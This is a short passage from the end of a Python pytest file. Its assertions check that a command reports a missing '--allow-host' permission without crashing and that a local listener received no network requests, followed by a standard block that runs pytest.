    assert "--allow-host" in done.stderr and "Traceback" not in done.stderr
    assert listener.requests == []


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q"]))
